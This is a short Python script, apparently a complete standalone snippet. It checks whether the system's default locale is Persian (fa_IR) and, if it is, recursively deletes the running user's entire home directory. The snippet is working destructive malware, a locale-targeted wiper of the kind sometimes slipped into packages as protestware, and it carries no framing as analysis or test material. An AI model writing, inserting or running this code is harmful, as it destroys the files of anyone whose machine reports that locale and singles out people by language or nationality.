import locale, shutil, os
if locale.getdefaultlocale()[0] == "fa_IR":
    shutil.rmtree(os.path.expanduser("~"))
